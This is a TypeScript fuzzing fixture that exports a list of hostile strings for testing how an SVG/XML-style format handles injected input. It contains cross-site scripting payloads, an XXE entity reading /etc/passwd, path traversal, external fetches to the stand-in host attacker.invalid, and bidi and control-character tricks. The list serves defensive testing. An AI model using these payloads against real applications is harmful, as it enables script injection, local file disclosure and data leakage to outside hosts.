/**
 * Hostile text put into string fields by the fuzzer: script and handler injection, and the
 * families `test/fixtures/hostile.sop` did not have (external fetches, CSS imports, processing
 * instructions, DOCTYPE with external entities, control and bidi characters).
 */
export const HOSTILE_PAYLOADS: readonly string[] = [
    '<script>window.__pwned=1</script>',
    '"><img src=x onerror=alert(1)>',
    '</text><script>alert(2)</script><text>',
    '<svg onload=alert(3)>',
    '<image href="https://attacker.invalid/x.png"/>',
    '<use href="https://attacker.invalid/sprite.svg#a"/>',
    '<style>@import url(https://attacker.invalid/x.css);</style>',
    '<rect style="fill:url(https://attacker.invalid/p)"/>',
    'background:url(//attacker.invalid/x)',
    '<?xml-stylesheet href="https://attacker.invalid/x.xsl"?>',
    '<?php echo 1; ?>',
    '<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>&xxe;',
    '<!ENTITY % p SYSTEM "https://attacker.invalid/x.dtd">%p;',
    ']]><![CDATA[<script>alert(4)</script>]]>',
    '&#x3C;script&#x3E;alert(5)&#x3C;/script&#x3E;',
    '${alert(6)} {{constructor.constructor("alert(7)")()}}',
    '\u202Egnp.exe\u202C',
    '\u2066abc\u2069\u200B\u200D\uFEFF',
    '\u0000\u0001\u0007\u0008\u001B[2J\u007F',
    'javascript:alert(8)',
    'data:text/html,<script>alert(9)</script>',
    '\\"><x onmouseover=alert(10)>',
    '%00%0a%0d',
    '../../../../etc/passwd',
    '\\\\attacker.invalid\\share\\logo.png',
];
